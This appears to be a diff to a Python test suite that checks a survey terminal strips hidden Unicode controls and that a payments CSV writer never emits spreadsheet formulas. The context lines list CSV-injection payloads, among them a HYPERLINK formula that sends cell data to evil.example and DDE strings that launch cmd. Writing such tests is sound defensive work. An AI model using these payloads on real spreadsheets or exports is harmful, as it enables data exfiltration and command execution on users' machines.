@@ -129,6 +129,18 @@ def test_tablet_desk_and_administrator_names_are_cleaned(store):
     assert admin.name == unicodedata.normalize("NFC", "Оле\u0301на К.")
 
 
+def test_survey_texts_shown_to_visitors_are_cleaned(store):
+    import yaml
+    from terminal.surveys.definitions import DEFAULT_DEFINITION
+    data = yaml.safe_load(DEFAULT_DEFINITION)
+    data["main"]["faces"][0]["label"]["uk"] = "Дуже \u202eпогано\u202c\u200b"
+    data["title"]["en"] = "\u2067Service\u2069 rating\n"
+    survey_id, version = store.save_definition(yaml.safe_dump(data, allow_unicode=True))
+    definition = store.definition(survey_id, version)
+    assert definition.title["en"] == "Service rating"
+    assert definition.label("main", data["main"]["faces"][0]["id"], "uk") == "Дуже погано"
+
+
 # --- CSV exports -------------------------------------------------------------------------------------
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+380501234567", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u200b=1+1", "\uff1d1+1", "\uff0b1",
@@ -194,3 +206,19 @@ def test_no_bank_registry_cell_runs_as_a_formula(surname, purpose, recipient, co
     # The amounts the registry writes stay plain numbers a spreadsheet adds up, minus sign included.
     assert rows[1][header.index("amount")] == format_plain(amount)
     assert rows[1][header.index("payer_surname")] in (surname, "'" + surname)
+
+
+@settings(max_examples=500, deadline=None)
+@given(values=st.lists(st.one_of(st.text(st.characters(exclude_categories=())), st.integers(), st.floats(),
+                                 st.decimals(), st.none(), st.booleans()), max_size=8))
+def test_the_csv_writer_never_writes_a_formula_only_numbers_it_was_given(values):
+    from payments import csvsafe
+    buffer = io.StringIO()
+    csvsafe.writer(buffer).writerow(values)
+    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) or [[]]
+    for value, written in zip(values, row):
+        number = (isinstance(value, int) and not isinstance(value, bool)) or (
+            isinstance(value, float) and value == value and abs(value) != float("inf")) or (
+            hasattr(value, "is_finite") and value.is_finite())
+        if not number:
+            assert first_visible(written) not in TRIGGERS, (value, written)
